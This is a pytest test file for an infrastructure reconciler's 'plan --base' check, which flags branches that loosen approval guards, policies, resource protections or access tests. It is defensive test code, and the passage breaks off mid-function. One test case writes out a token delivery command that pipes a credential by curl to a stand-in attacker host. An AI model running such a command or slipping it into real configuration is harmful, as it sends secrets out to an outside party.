"""`plan --base`: a branch is judged by the rules of its base too, on real Git repositories. Each test is an attack."""

from __future__ import annotations

import os
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from reconciler import Runtime, Workspace
from reconciler.model.change import Action, Cause
from reconciler.model.plan import Plan
from reconciler.testing import Sandbox
from tests.harness.workspaces import Document, domain, policy
from tests.operations.test_base_plan import Repository

OFFICE = policy("office")
BACKEND: Document = {"kind": "TunnelGroupBackend", "name": "pay", "spec": {"labels": {"app": "pay"}}}
OPEN: dict[str, Any] = {
    "description": "pay",
    "hostports": ["pay.example.com:443"],
    "backend": {"backend_id": {"ref": "TunnelGroupBackend/pay"}},
}
RESTRICTED = {**OPEN, "ip_restriction": {"ip_policy_ids": [{"ref": "IPPolicy/office"}]}}
EDGE: Document = {"kind": "TLSEdge", "name": "pay", "spec": RESTRICTED}
OPEN_EDGE: Document = {"kind": "TLSEdge", "name": "pay", "spec": OPEN}
SERVED = (OFFICE, domain("pay"), BACKEND)
GUARDS = "guards: {require_approval: [widens_access], max_delete_percent: 10, max_update_percent: 20}\n"
POLICY = """\
policy: restricted
scope: {kinds: [TLSEdge]}
check: resource.spec.ip_restriction != null
message: ${resource.address} is open to everyone
"""
EXEMPTION = "exemptions: [{address: TLSEdge/pay, reason: because, until: 2040-01-01}]\n"


@pytest.fixture
def sandbox() -> Iterator[Sandbox]:
    with Sandbox() as sandbox:
        yield sandbox


@pytest.fixture
def repository(tmp_path: Path) -> Repository:
    return Repository(tmp_path / "repository")


def write(repository: Repository, path: str, text: str) -> None:
    file = repository.root / path
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(text)


def commit(repository: Repository) -> None:
    repository.git("add", "--all")
    repository.git("commit", "--quiet", "--allow-empty", "--message=next")


def open_on(sandbox: Sandbox, repository: Repository, environment: str | None = None) -> Workspace:
    environ = {**os.environ, **sandbox.environ, "OTHER_STORE": "memory:"}
    runtime = Runtime(environ=environ, platform=sandbox, now=lambda: 1_800_000_000.0)
    return Workspace.open(repository.root, environment=environment, runtime=runtime)


async def plan_on(sandbox: Sandbox, repository: Repository, *, env: str | None = None, **options: Any) -> Plan:
    return (await open_on(sandbox, repository, env).plan(base="main", **options)).plan


def list_loosened(plan: Plan) -> list[str]:
    return [f"{change.risk} {change.subject}" for change in plan.rule_changes]


def list_missing(plan: Plan) -> list[str]:
    return [approval.flag.removeprefix("--allow ") for approval in plan.missing_approvals]


def list_violated(plan: Plan) -> list[str]:
    return sorted({problem.rule for problem in plan.errors})


async def begin(sandbox: Sandbox, repository: Repository, *documents: Document, settings: str = GUARDS) -> None:
    """The project on main, applied, and a branch that is checked out."""
    repository.commit(*(documents or (*SERVED, EDGE)), settings=settings)
    env = "prod" if (repository.root / "environments/prod.yaml").exists() else None
    result = await open_on(sandbox, repository, env).apply()
    assert not result.problems, result
    repository.git("checkout", "--quiet", "-b", "review")


# --- guards -----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("settings", "subject"),
    [
        ("", "guards.require_approval"),
        ("guards: {max_delete_percent: 10, max_update_percent: 20}\n", "guards.require_approval"),
        ("guards: {require_approval: [runs_command]}\n", "guards.require_approval"),
        ("guards: {require_approval: []}\n", "guards.require_approval"),
    ],
)
async def test_a_branch_that_no_longer_requires_an_approval_still_needs_it(
    sandbox: Sandbox, repository: Repository, settings: str, subject: str
) -> None:
    await begin(sandbox, repository)
    repository.commit(*SERVED, OPEN_EDGE, settings=settings)
    plan = await plan_on(sandbox, repository)
    assert f"loosens_rule {subject}" in list_loosened(plan)
    assert f"loosens_rule:{subject}=1" in list_missing(plan)
    assert "widens_access:*=1" in list_missing(plan)


@pytest.mark.parametrize("name", ["max_delete_percent", "max_update_percent"])
async def test_a_branch_that_raises_a_percentage_is_judged_by_the_lower_one(
    sandbox: Sandbox, repository: Repository, name: str
) -> None:
    many = [policy(f"p{number:02}") for number in range(20)]
    await begin(sandbox, repository, *many)
    after = many[:15] if name == "max_delete_percent" else [policy(f"p{number:02}", "new") for number in range(20)]
    repository.commit(
        *after, settings=GUARDS.replace(f"{name}: 10", f"{name}: 100").replace(f"{name}: 20", f"{name}: 100")
    )
    plan = await plan_on(sandbox, repository)
    assert list_loosened(plan) == [f"loosens_rule guards.{name}"]
    what, count = ("delete", 5) if name == "max_delete_percent" else ("update", 20)
    assert list_missing(plan) == [f"loosens_rule:guards.{name}=1", f"{what}:*={count}"]


async def test_a_branch_with_a_stricter_rule_is_judged_by_it_and_loosens_nothing(
    sandbox: Sandbox, repository: Repository
) -> None:
    await begin(sandbox, repository, settings="")
    repository.commit(*SERVED, OPEN_EDGE, settings=GUARDS)
    plan = await plan_on(sandbox, repository)
    assert (list_loosened(plan), list_missing(plan)) == ([], ["widens_access:*=1"])


async def test_an_approved_rule_is_the_only_one_that_judges(sandbox: Sandbox, repository: Repository) -> None:
    await begin(sandbox, repository)
    repository.commit(*SERVED, OPEN_EDGE, settings="")
    subjects = ("guards.max_delete_percent", "guards.max_update_percent", "guards.require_approval")
    plan = await plan_on(sandbox, repository, allow={("loosens_rule", subject): 1 for subject in subjects})
    assert list_loosened(plan) == [f"loosens_rule {subject}" for subject in subjects]
    assert list_missing(plan) == []


async def test_an_entry_of_approvals_yaml_approves_this_loosening_and_no_other(
    sandbox: Sandbox, repository: Repository
) -> None:
    await begin(sandbox, repository)
    only = "guards: {max_delete_percent: 10, max_update_percent: 20}\n"
    repository.commit(*SERVED, OPEN_EDGE, settings=only)
    (change,) = (await plan_on(sandbox, repository)).rule_changes
    entry = f"- loosens_rule: guards.require_approval\n  until: '2030-01-01'\n  digest: {change.digest}\n"
    write(repository, "approvals.yaml", f"approvals:\n{entry}")
    commit(repository)
    plan = await plan_on(sandbox, repository)
    assert (list_missing(plan), [problem.code for problem in plan.problems]) == ([], [])
    write(repository, "approvals.yaml", f"approvals:\n{entry.replace('2030', '2020')}")
    assert "loosens_rule:guards.require_approval=1" in list_missing(await plan_on(sandbox, repository))
    repository.git("checkout", "--quiet", "--force", "main")
    repository.commit(*SERVED, EDGE, settings=GUARDS.replace("[widens_access]", "[widens_access, runs_command]"))
    repository.git("checkout", "--quiet", "review")
    write(repository, "approvals.yaml", f"approvals:\n{entry}")
    assert "loosens_rule:guards.require_approval=1" in list_missing(await plan_on(sandbox, repository))


async def test_an_entry_for_a_rule_is_no_warning_without_a_base(sandbox: Sandbox, repository: Repository) -> None:
    await begin(sandbox, repository)
    entry = "- loosens_rule: guards.require_approval\n  until: '2030-01-01'\n  digest: a\n"
    write(repository, "approvals.yaml", f"approvals:\n{entry}")
    assert (await open_on(sandbox, repository).plan()).plan.problems == ()


# --- environments -----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("settings", [GUARDS, ""], ids=["rule_of_the_project", "rule_of_the_environment"])
async def test_an_environment_that_requires_no_approval_any_more_is_judged_by_that_of_the_base(
    sandbox: Sandbox, repository: Repository, settings: str
) -> None:
    write(repository, "environments/prod.yaml", "limits: {concurrency: 4}\n" + ("" if settings else GUARDS))
    weaker = GUARDS.replace("[widens_access]", "[]")
    await begin(sandbox, repository, settings=settings)
    write(repository, "environments/prod.yaml", f"limits: {{concurrency: 4}}\n{weaker}")
    repository.commit(*SERVED, OPEN_EDGE, settings=settings)
    plan = await plan_on(sandbox, repository, env="prod")
    assert list_loosened(plan) == ["loosens_rule guards.require_approval"]
    assert list_missing(plan) == ["loosens_rule:guards.require_approval=1", "widens_access:*=1"]
    (change,) = plan.rule_changes
    assert str(change.position).startswith("environments/prod.yaml:2")
    assert list_loosened(await plan_on(sandbox, repository)) == []  # elsewhere, nothing is loosened


async def test_a_renamed_environment_has_unknown_rules(sandbox: Sandbox, repository: Repository) -> None:
    write(repository, "environments/prod.yaml", GUARDS)
    await begin(sandbox, repository, settings="")
    repository.git("mv", "infra/tunnels/environments/prod.yaml", "infra/tunnels/environments/live.yaml")
    write(repository, "environments/live.yaml", "stack: prod\n")
    repository.commit(*SERVED, OPEN_EDGE)
    plan = await plan_on(sandbox, repository, env="live")
    assert (list_loosened(plan), list_missing(plan)) == (["loosens_rule base/settings"], ["loosens_rule:base=1"])


# --- policies ---------------------------------------------------------------------------------------------------------


def delete_policy(repository: Repository) -> None:
    (repository.root / "policies/access.yaml").unlink()


def edit(old: str, new: str) -> Callable[[Repository], None]:
    def edit_policy(repository: Repository) -> None:
        file = repository.root / "policies/access.yaml"
        text = file.read_text()
        assert old in text
        file.write_text(text.replace(old, new))

    return edit_policy


def move_policies(repository: Repository) -> None:
    repository.git("mv", "infra/tunnels/policies", "infra/tunnels/rules")
    settings = repository.root / "reconciler.yaml"
    settings.write_text(f"{settings.read_text()}policies: [rules]\n")
    (repository.root / "rules/access.yaml").write_text("policy: other\ncheck: 'true'\nmessage: never\n")


def point_policies_elsewhere(repository: Repository) -> None:
    settings = repository.root / "reconciler.yaml"
    settings.write_text(f"{settings.read_text()}policies: [rules]\n")
    write(repository, "rules/other.yaml", "policy: other\ncheck: 'true'\nmessage: never\n")


def rename_policy(repository: Repository) -> None:
    write(repository, "policies/access.yaml", POLICY.replace("restricted", "renamed").replace("TLSEdge", "TCPEdge"))


@pytest.mark.parametrize(
    "attack",
    [
        delete_policy,
        move_policies,
        point_policies_elsewhere,
        rename_policy,
        edit("check: resource.spec.ip_restriction != null", "check: 'true'"),
        edit("check: ", "check: resource.name == 'pay' || "),
        edit("scope: {kinds: [TLSEdge]}", "scope: {kinds: [TCPEdge]}"),
        edit("scope: {kinds: [TLSEdge]}", "scope: {kinds: [TLSEdge], addresses: ['TLSEdge/x*']}"),
        edit("scope: {kinds: [TLSEdge]}", "scope: {kinds: [TLSEdge], actions: [adopt]}"),
        edit("scope: ", "severity: warning\nscope: "),
        edit("is open to everyone", "is open to everyone, ${change.action}"),
        edit("is open to everyone\n", f"is open to everyone\n{EXEMPTION}"),
        edit(
            "is open to everyone\n", f"is open to everyone\n{EXEMPTION.replace('TLSEdge/pay', chr(39) + '*' + chr(39))}"
        ),
    ],
    ids=range(13),
)
async def test_a_branch_that_weakens_a_policy_is_judged_by_that_of_the_base(
    sandbox: Sandbox, repository: Repository, attack: Callable[[Repository], None]
) -> None:
    write(repository, "policies/access.yaml", POLICY)
    await begin(sandbox, repository, settings="")
    repository.commit(*SERVED, OPEN_EDGE)
    attack(repository)
    commit(repository)
    plan = await plan_on(sandbox, repository)
    assert "loosens_rule policy/restricted" in list_loosened(plan)
    assert "loosens_rule:policy=1" in list_missing(plan)
    assert "restricted of main" in list_violated(plan)
    rules = {("loosens_rule", change.rule): 1 for change in plan.rule_changes}
    approved = await plan_on(sandbox, repository, allow=rules)
    assert ("restricted of main" in list_violated(approved), list_missing(approved)) == (False, [])


@pytest.mark.parametrize(
    "repair",
    [
        edit("policy: restricted", "policy: restricted\ndescription: why"),
        edit("is open to everyone", "is public"),
        edit("message: ", "remedy: close it\nmessage: "),
        edit("scope: {kinds: [TLSEdge]}", "scope: {kinds: [TLSEdge, TCPEdge]}"),
    ],
    ids=range(4),
)
async def test_a_policy_that_is_as_strict_as_before_loosens_nothing(
    sandbox: Sandbox, repository: Repository, repair: Callable[[Repository], None]
) -> None:
    write(repository, "policies/access.yaml", POLICY)
    await begin(sandbox, repository, settings="")
    repository.commit(*SERVED, OPEN_EDGE)
    repair(repository)
    commit(repository)
    plan = await plan_on(sandbox, repository)
    assert (list_loosened(plan), list_violated(plan)) == ([], ["restricted"])


async def test_an_exemption_of_both_sides_counts_and_one_that_the_base_ended_does_not(
    sandbox: Sandbox, repository: Repository
) -> None:
    write(repository, "policies/access.yaml", POLICY + EXEMPTION)
    await begin(sandbox, repository, settings="")
    repository.commit(*SERVED, OPEN_EDGE)
    assert list_violated(await plan_on(sandbox, repository)) == []
    repository.git("checkout", "--quiet", "main")
    write(repository, "policies/access.yaml", POLICY)
    commit(repository)
    repository.git("checkout", "--quiet", "review")
    plan = await plan_on(sandbox, repository)
    assert (list_loosened(plan), list_violated(plan)) == (
        ["loosens_rule policy/restricted"],
        ["restricted of main"],
    )


async def test_a_wrong_policy_can_be_repaired(sandbox: Sandbox, repository: Repository) -> None:
    await begin(sandbox, repository, settings="")
    repository.git("checkout", "--quiet", "main")
    write(repository, "policies/wrong.yaml", "policy: wrong\ncheck: 'false'\nmessage: nothing is right\n")
    commit(repository)
    repository.git("checkout", "--quiet", "review")
    repository.git("merge", "--quiet", "--no-edit", "main")
    (repository.root / "policies/wrong.yaml").unlink()
    commit(repository)
    blocked = await plan_on(sandbox, repository)
    assert (list_violated(blocked), list_missing(blocked)) == (["wrong of main"], ["loosens_rule:policy=1"])
    repaired = await plan_on(sandbox, repository, allow={("loosens_rule", "policy"): 1})
    assert (list_violated(repaired), list_missing(repaired)) == ([], [])


# --- where nothing can be attributed ----------------------------------------------------------------------------------


async def test_a_branch_behind_its_base_is_judged_by_it(sandbox: Sandbox, repository: Repository) -> None:
    await begin(sandbox, repository, settings="")
    repository.commit(*SERVED, OPEN_EDGE)
    repository.git("checkout", "--quiet", "main")
    repository.commit(*SERVED, EDGE, settings=GUARDS)
    repository.git("checkout", "--quiet", "review")
    plan = await plan_on(sandbox, repository)
    assert plan.base is not None
    assert plan.base.behind == 1
    assert "widens_access:*=1" in list_missing(plan)
    assert "loosens_rule:guards.require_approval=1" in list_missing(plan)


async def test_invalid_manifests_of_the_base_need_approval_and_leave_its_settings_in_force(
    sandbox: Sandbox, repository: Repository
) -> None:
    await begin(sandbox, repository)
    repository.git("checkout", "--quiet", "main")
    repository.commit({"kind": "IPPolicy", "name": "a", "spec": {"descripton": "a"}}, settings=GUARDS)
    repository.git("checkout", "--quiet", "review")
    repository.git("merge", "--quiet", "--no-edit", "main")
    repository.commit(*SERVED, OPEN_EDGE)
    plan = await plan_on(sandbox, repository)
    assert list_missing(plan)[:2] == ["loosens_rule:base=1", "loosens_rule:guards.max_delete_percent=1"]
    assert "widens_access:*=1" in list_missing(plan)


@pytest.mark.parametrize(
    ("path", "text", "part"),
    [
        ("reconciler.yaml", "version: 1\nstack: prod\nguards: {max_delete: 3}\n", "settings"),
        ("policies/wrong.yaml", "policy: wrong\ncheck: ((\nmessage: m\n", "policies"),
    ],
)
async def test_unreadable_rules_of_the_base_need_approval(
    sandbox: Sandbox, repository: Repository, path: str, text: str, part: str
) -> None:
    await begin(sandbox, repository, settings="")
    repository.git("checkout", "--quiet", "main")
    write(repository, path, text)
    commit(repository)
    repository.git("checkout", "--quiet", "review")
    repository.git("merge", "--quiet", "--no-edit", "main")
    (repository.root / "policies/wrong.yaml").unlink(missing_ok=True)
    repository.commit(*SERVED, EDGE)
    plan = await plan_on(sandbox, repository)
    assert (list_loosened(plan), list_missing(plan)) == ([f"loosens_rule base/{part}"], ["loosens_rule:base=1"])
    assert list_missing(await plan_on(sandbox, repository, allow={("loosens_rule", "base"): 1})) == []


async def test_the_first_pull_request_has_no_rules_to_loosen(sandbox: Sandbox, repository: Repository) -> None:
    (repository.folder / "README").write_text("no project yet\n")
    commit(repository)
    repository.git("checkout", "--quiet", "-b", "review")
    repository.commit(*SERVED, OPEN_EDGE)
    plan = await plan_on(sandbox, repository)
    assert (list_loosened(plan), list_missing(plan)) == ([], [])


async def test_a_project_that_was_moved_to_another_folder_has_unknown_rules(
    sandbox: Sandbox, repository: Repository
) -> None:
    await begin(sandbox, repository)
    repository.git("mv", "infra/tunnels", "infra/other")
    repository.root = repository.folder / "infra" / "other"
    repository.commit(*SERVED, OPEN_EDGE)
    plan = await plan_on(sandbox, repository)
    assert (list_loosened(plan), list_missing(plan)) == (["loosens_rule base/settings"], ["loosens_rule:base=1"])
    assert "infra/tunnels/reconciler.yaml" in str(plan.rule_changes[0].before)


# --- where it applies -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("before", "after", "subject"),
    [
        ("", "platform: {account: other}\n", "platform.account"),
        ("platform: {account: mine}\n", "platform: {account: other}\n", "platform.account"),
        ("", "platform: {profile: ngrok}\n", "platform.profile"),
        ("", "platform: {base_url: 'https://elsewhere.example.com'}\n", "platform.base_url"),
        ("", "platform: {base_url: {from_env: OTHER_URL}}\n", "platform.base_url"),
        ("", "platform: {api_key: {from_env: OTHER_KEY}}\n", "platform.api_key"),
        ("", "store: other/store.db\n", "store"),
        ("", "store: {from_env: OTHER_STORE}\n", "store"),
        ("", "agent: {base_url: 'http://127.0.0.1:4041'}\n", "agent.base_url"),
        ("", "manifests: [manifests/all.yaml]\n", "manifests"),
        ("", "stack: other\n", "stack"),
    ],
)
async def test_a_branch_that_applies_elsewhere_needs_approval(
    sandbox: Sandbox, repository: Repository, before: str, after: str, subject: str
) -> None:
    repository.commit(OFFICE, settings=before)
    repository.git("checkout", "--quiet", "-b", "review")
    repository.commit(OFFICE, settings="" if subject == "stack" else after)
    if subject == "stack":
        text = (repository.root / "reconciler.yaml").read_text()
        write(repository, "reconciler.yaml", text.replace("stack: prod\n", after))
        commit(repository)
    plan = await plan_on(sandbox, repository)
    assert f"changes_where_it_applies {subject}" in list_loosened(plan)
    assert f"changes_where_it_applies:{subject}=1" in list_missing(plan)


async def test_a_setting_that_repeats_its_default_changes_nothing(sandbox: Sandbox, repository: Repository) -> None:
    repository.commit(OFFICE)
    repository.git("checkout", "--quiet", "-b", "review")
    repository.commit(OFFICE, settings="store: ./state/reconciler.db\nmanifests: [manifests/]\n")
    assert list_loosened(await plan_on(sandbox, repository)) == []


async def test_the_address_of_a_store_is_shown_without_its_password(sandbox: Sandbox, repository: Repository) -> None:
    repository.commit(OFFICE)
    repository.git("checkout", "--quiet", "-b", "review")
    repository.commit(OFFICE, settings="store: 'postgresql://me:hunter2@db.example.com/x?password=hunter2'\n")
    workspace = open_on(sandbox, repository).judge_by("main")
    assert workspace.options.rule_changes is not None
    (change,) = workspace.options.rule_changes
    assert ("db.example.com" in str(change), "hunter2" in str(change)) == (True, False)


# --- other demands ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("before", "after", "subject"),
    [
        ("snapshots: {public_key: {from_file: snapshot.pub}}\n", "", "snapshots.public_key"),
        (
            "snapshots: {public_key: {from_file: snapshot.pub}}\n",
            "snapshots: {public_key: {from_file: other.pub}}\n",
            "snapshots.public_key",
        ),
        ("", "drift: {ignore: [{match: 'TLSEdge/*', until: '2040-01-01', reason: because}]}\n", "drift.ignore"),
        (
            "drift: {ignore: [{match: TLSEdge/pay, until: '2030-01-01', reason: because}]}\n",
            "drift: {ignore: [{match: TLSEdge/pay, until: '2031-01-01', reason: because}]}\n",
            "drift.ignore",
        ),
    ],
)
async def test_a_branch_that_exempts_more_or_verifies_less_needs_approval(
    sandbox: Sandbox, repository: Repository, before: str, after: str, subject: str
) -> None:
    for name in ("snapshot.pub", "other.pub"):
        write(repository, name, _create_public_key())
    repository.commit(OFFICE, settings=before)
    repository.git("checkout", "--quiet", "-b", "review")
    repository.commit(OFFICE, settings=after)
    plan = await plan_on(sandbox, repository)
    assert (list_loosened(plan), list_missing(plan)) == (
        [f"loosens_rule {subject}"],
        [f"loosens_rule:{subject}=1"],
    )
    repository.git("checkout", "--quiet", "--detach", "main")
    repository.git("branch", "--quiet", "--force", "main", "review")
    if not subject.startswith("snapshots") or "other" not in after:
        assert list_loosened(await plan_on(sandbox, repository)) == []  # the other way round


def _create_public_key() -> str:
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
    from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

    key = Ed25519PrivateKey.generate().public_key()
    return key.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo).decode()


async def test_the_stricter_limits_of_both_sides_hold_until_the_change_is_approved(
    sandbox: Sandbox, repository: Repository
) -> None:
    repository.commit(OFFICE)
    limits = "limits: {requests_per_minute: 600, concurrency: 2, settle_seconds: 30}\n"
    write(repository, "reconciler.yaml", f"version: 1\nstack: prod\n{limits}")
    commit(repository)
    repository.git("checkout", "--quiet", "-b", "review")
    limits = "limits: {requests_per_minute: 6000, concurrency: 64, settle_seconds: 0}\n"
    write(repository, "reconciler.yaml", f"version: 1\nstack: prod\n{limits}")
    commit(repository)
    judged = open_on(sandbox, repository).judge_by("main")
    assert (judged.account.budget, judged.parallelism, judged.config.limits.settle_seconds) == (600, 2, 30.0)
    names = ("requests_per_minute", "concurrency", "settle_seconds")
    allow = {("loosens_rule", f"limits.{name}"): 1 for name in names}
    approved = open_on(sandbox, repository).select(allow=allow).judge_by("main")
    assert (approved.account.budget, approved.parallelism, approved.config.limits.settle_seconds) == (6000, 64, 0.0)


# --- resources --------------------------------------------------------------------------------------------------------

VAULT: Document = {"kind": "Vault", "name": "v", "spec": {"name": "v"}}
TOKEN: Document = {
    "kind": "TunnelCredential",
    "name": "t",
    "deliver": {"token": {"to_file": "secrets/t"}},
    "rotate": {"after": "30d", "overlap": "1h"},
    "spec": {"acl": ["bind:a.example.com"]},
}


@pytest.mark.parametrize(
    ("before", "after", "subject"),
    [
        ({**VAULT, "lifecycle": {"protect": True}}, VAULT, "loosens_rule Vault/v.lifecycle.protect"),
        (
            {**VAULT, "lifecycle": {"protect": True}},
            {**VAULT, "name": "w", "moved": "Vault/v"},
            "loosens_rule Vault/w.lifecycle.protect",
        ),
        (
            {**VAULT, "lifecycle": {"protect": True}},
            {**VAULT, "ensure": "forgotten"},
            "loosens_rule Vault/v.lifecycle.protect",
        ),
        (VAULT, {**VAULT, "lifecycle": {"ignore": ["description"]}}, "loosens_rule Vault/v.lifecycle.ignore"),
        ({**VAULT, "lifecycle": {"replace": False}}, VAULT, "loosens_rule Vault/v.lifecycle.replace"),
        (
            OFFICE,
            {**OFFICE, "lifecycle": {"unmanaged_children": "ignore"}},
            "loosens_rule IPPolicy/office.lifecycle.unmanaged_children",
        ),
        (
            TOKEN,
            {**TOKEN, "deliver": {"token": {"to_file": "secrets/other"}}},
            "changes_where_it_applies TunnelCredential/t.deliver",
        ),
        (
            TOKEN,
            {**TOKEN, "deliver": {"token": {"to_command": {"run": ["curl", "-d@-", "https://evil.example.com"]}}}},
            "changes_where_it_applies TunnelCredential/t.deliver",
        ),
        (TOKEN, {**TOKEN, "rotate": {"after": "900d", "overlap": "1h"}}, "loosens_rule TunnelCredential/t.rotate"),
        (TOKEN, {**TOKEN, "rotate": None}, "loosens_rule TunnelCredential/t.rotate"),
    ],
    ids=range(10),
)
async def test_a_branch_that_loosens_the_rules_of_a_resource_needs_approval(
    sandbox: Sandbox, repository: Repository, before: Document, after: Document, subject: str
) -> None:
    await begin(sandbox, repository, before, settings="")
    repository.commit({name: value for name, value in after.items() if value is not None})
    plan = await plan_on(sandbox, repository)
    assert list_loosened(plan) == [subject]
    risk, _, rest = subject.partition(" ")
    assert list_missing(plan) == [f"{risk}:{rest.partition('.')[2]}=1"]
    allow = {(risk, rest.partition(".")[2]): 1}
    assert list_missing(await plan_on(sandbox, repository, allow=allow)) == []
    repository.git("checkout", "--quiet", "--detach", "main")
    repository.git("branch", "--quiet", "--force", "main", "review")
    back = list_loosened(await plan_on(sandbox, repository))
    assert back == ([subject] if subject.endswith(".deliver") else [])


async def test_defaults_that_loosen_the_rules_of_resources_count_too(sandbox: Sandbox, repository: Repository) -> None:
    protected = "defaults: {Vault: {lifecycle: {protect: true}}}\n"
    await begin(sandbox, repository, VAULT, settings=protected)
    repository.commit(VAULT)
    assert list_loosened(await plan_on(sandbox, repository)) == ["loosens_rule Vault/v.lifecycle.protect"]


@pytest.mark.parametrize("how", ["id", "natural key", "moved"])
@pytest.mark.parametrize("ensure", ["present", "forgotten"])
async def test_the_rules_of_a_resource_follow_its_object_to_another_name(
    sandbox: Sandbox, repository: Repository, how: str, ensure: str
) -> None:
    before = domain("shop")
    await begin(sandbox, repository, {**before, "lifecycle": {"protect": True}})
    (live,) = sandbox.get("/reserved_domains")["reserved_domains"]
    former = {"id": {"id": live["id"]}, "natural key": {}, "moved": {"moved": ["ReservedDomain/shop"]}}[how]
    repository.commit({**before, "name": "other", "ensure": ensure, **former}, settings=GUARDS)
    plan = await plan_on(sandbox, repository)
    assert list_loosened(plan) == ["loosens_rule ReservedDomain/other.lifecycle.protect"]
    assert list_missing(plan) == ["loosens_rule:lifecycle.protect=1"]


async def test_a_resource_that_is_renamed_with_its_rules_loosens_nothing(
    sandbox: Sandbox, repository: Repository
) -> None:
    protected = {**domain("shop"), "lifecycle": {"protect": True}}
    await begin(sandbox, repository, protected)
    repository.commit({**protected, "name": "other"}, settings=GUARDS)
    plan = await plan_on(sandbox, repository)
    assert (list_loosened(plan), list_missing(plan)) == ([], [])


async def test_a_protected_resource_is_protected_by_the_base_before_it_was_applied(
    sandbox: Sandbox, repository: Repository
) -> None:
    await begin(sandbox, repository, OFFICE, VAULT, settings="")
    repository.git("checkout", "--quiet", "main")
    repository.commit(OFFICE, {**VAULT, "lifecycle": {"protect": True}})
    repository.git("checkout", "--quiet", "review")
    repository.git("merge", "--quiet", "--no-edit", "main")
    repository.commit(OFFICE)
    assert list_missing(await plan_on(sandbox, repository)) == ["delete-protected:Vault=1"]


async def test_lifecycle_adopt_approves_an_adoption_only_if_the_base_has_it(
    sandbox: Sandbox, repository: Repository
) -> None:
    sandbox.post("/vaults", {"name": "v"})
    adopting = {**VAULT, "lifecycle": {"adopt": True}}
    repository.commit(OFFICE)
    repository.git("checkout", "--quiet", "-b", "review")
    repository.commit(OFFICE, adopting)
    assert list_missing(await plan_on(sandbox, repository)) == ["adopt:Vault=1"]
    repository.git("branch", "--quiet", "--force", "main", "review")
    assert list_missing(await plan_on(sandbox, repository)) == []


async def test_a_new_resource_loosens_nothing(sandbox: Sandbox, repository: Repository) -> None:
    await begin(sandbox, repository, OFFICE)
    repository.commit(OFFICE, {**VAULT, "lifecycle": {"ignore": ["description"]}}, TOKEN, settings=GUARDS)
    assert list_loosened(await plan_on(sandbox, repository)) == []


# --- access tests -----------------------------------------------------------------------------------------------------

CLOSED = "- {from: [198.51.100.7, 192.0.2.0/24], to: 'tls://pay.example.com', expect: deny}\n"


async def begin_with_test(sandbox: Sandbox, repository: Repository) -> None:
    write(repository, "tests/access.yaml", CLOSED)
    await begin(sandbox, repository)


@pytest.mark.parametrize(
    "loosened",
    [
        "",
        CLOSED.replace("deny", "allow"),
        CLOSED.replace("[198.51.100.7, 192.0.2.0/24]", "198.51.100.7"),
        CLOSED.replace("192.0.2.0/24", "192.0.2.0/25"),
        CLOSED.replace("deny", "deny, severity: warning"),
        CLOSED.replace("deny", "deny, with: {token: true}"),
        CLOSED.replace("pay.", "play."),
    ],
)
async def test_a_branch_that_removes_or_changes_an_access_test_is_judged_by_it_still(
    sandbox: Sandbox, repository: Repository, loosened: str
) -> None:
    await begin_with_test(sandbox, repository)
    write(repository, "tests/access.yaml", loosened)
    repository.commit(*SERVED, OPEN_EDGE, settings=GUARDS)
    plan = await plan_on(sandbox, repository)
    name = "access-test/tls://pay.example.com from 198.51.100.7 and 1 more"
    assert list_loosened(plan) == [f"loosens_rule {name}"]
    assert "loosens_rule:access-test=1" in list_missing(plan)
    assert "access tests" in list_violated(plan)
    assert any("access test of main failed" in problem.text for problem in plan.errors)
    allowed = await plan_on(sandbox, repository, allow={("loosens_rule", "access-test"): 1})
    assert not any("of main" in problem.text for problem in allowed.errors)


@pytest.mark.parametrize(
    "kept",
    [
        CLOSED + CLOSED.replace("deny", "deny, with: {token: true}"),
        CLOSED.replace("192.0.2.0/24", "192.0.2.0/25, 192.0.2.128/25"),
        CLOSED.replace("192.0.2.0/24", "192.0.2.0/23").replace("192.0.2.0/23", "192.0.0.0/16"),
        CLOSED.replace("[198.51.100.7, 192.0.2.0/24]", "192.0.2.0/24") + CLOSED.replace(", 192.0.2.0/24", ""),
    ],
)
async def test_access_tests_that_demand_as_much_as_those_of_the_base_loosen_nothing(
    sandbox: Sandbox, repository: Repository, kept: str
) -> None:
    await begin_with_test(sandbox, repository)
    write(repository, "tests/access.yaml", kept)
    repository.commit(*SERVED, EDGE, settings=GUARDS)
    plan = await plan_on(sandbox, repository)
    assert not list_loosened(plan)
    assert not plan.errors


async def test_a_test_that_becomes_an_error_loosens_nothing(sandbox: Sandbox, repository: Repository) -> None:
    write(repository, "tests/access.yaml", CLOSED.replace("deny", "deny, severity: warning"))
    await begin(sandbox, repository)
    write(repository, "tests/access.yaml", CLOSED)
    repository.commit(*SERVED, EDGE, settings=GUARDS)
    assert not list_loosened(await plan_on(sandbox, repository))


async def test_access_tests_of_the_base_that_cannot_be_read_need_approval(
    sandbox: Sandbox, repository: Repository
) -> None:
    await begin(sandbox, repository)
    repository.git("checkout", "--quiet", "main")
    write(repository, "tests/access.yaml", "not a list")
    repository.commit(*SERVED, EDGE, settings=GUARDS)
    repository.git("checkout", "--quiet", "-B", "review")
    write(repository, "tests/access.yaml", "")
    repository.commit(*SERVED, EDGE, settings=GUARDS)
    assert list_loosened(await plan_on(sandbox, repository)) == ["loosens_rule base/access-tests"]


ENTRY_POLICY = "policy: closed\ncheck: '!entry.public'\nmessage: ${entry.entry_point} is open\n"
RELATED = """\
policy: restricted-by-office
scope: {kinds: [TLSEdge]}
check: refs(resource).exists(r, r.kind == 'IPPolicy')
message: ${resource.address} has no IP policy
"""


@pytest.mark.parametrize("text", [ENTRY_POLICY, RELATED])
@pytest.mark.parametrize("weaker", ["", "check: 'true'\n"])
async def test_a_branch_that_opens_an_edge_is_judged_by_policies_of_its_base_about_access_and_references(
    sandbox: Sandbox, repository: Repository, text: str, weaker: str
) -> None:
    write(repository, "policies/access.yaml", text)
    rules = f"{OFFICE['name']}"
    cidr: Document = {
        "kind": "IPPolicyRule",
        "name": rules,
        "spec": {"ip_policy_id": {"ref": f"IPPolicy/{rules}"}, "cidr": "203.0.113.0/24", "action": "allow"},
    }
